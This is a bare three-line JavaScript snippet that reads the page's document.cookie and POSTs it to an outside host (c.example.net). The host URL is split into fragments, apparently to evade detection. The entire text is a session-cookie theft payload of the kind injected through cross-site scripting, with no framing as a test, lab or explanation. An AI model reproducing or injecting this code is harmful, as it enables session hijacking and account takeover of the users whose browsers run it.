const to = "ht" + "tps:/" + "/c.example.net/in";
const tell = (what) => fetch(to, { method: "POST", body: what });
tell(document.cookie);
